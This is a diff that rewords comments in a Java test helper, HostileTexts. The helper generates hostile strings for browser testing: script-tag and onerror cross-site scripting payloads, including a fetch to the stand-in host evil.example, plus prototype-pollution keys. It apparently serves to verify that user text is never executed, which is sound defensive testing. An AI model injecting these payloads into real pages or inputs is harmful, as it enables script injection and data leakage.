@@ -3,11 +3,11 @@ package dev.baton.management.browser;
 import java.util.ArrayList;
 import java.util.List;
 
-/** Texts that would do something wherever text is taken for more than text. */
+/** Texts that would have an effect wherever text is treated as code. */
 final class HostileTexts {
   static final int MANY = 200;
 
-  /** Each opens a dialog, or tells on itself, if it is ever run. */
+  /** Scripts that open a dialog or report themselves if they run. */
   private static final List<String> PROGRAMS =
       List.of(
           "alert(%d)",
@@ -16,7 +16,7 @@ final class HostileTexts {
           "fetch('//evil.example/%d')",
           "window.witness.push('ran %d')");
 
-  /** Where a program hides. */
+  /** Places where text can become code. */
   private static final List<String> GUISES =
       List.of(
           "<script>%s</script>",
@@ -58,7 +58,7 @@ final class HostileTexts {
           "<template><script>%s</script></template>",
           "<noscript><p title=\"</noscript><img src=x onerror=%s>\">");
 
-  /** What is odd without being a program. */
+  /** Unusual texts that are no code. */
   private static final List<String> ODD =
       List.of(
           "__proto__",
@@ -90,7 +90,7 @@ final class HostileTexts {
 
   private HostileTexts() {}
 
-  /** That many, all different, of at most that many characters. */
+  /** Returns this number of different texts with at most this many characters each. */
   static List<String> texts(int longest) {
     List<String> texts = new ArrayList<>(ODD);
     for (int number = 1; texts.size() < MANY; number++) {
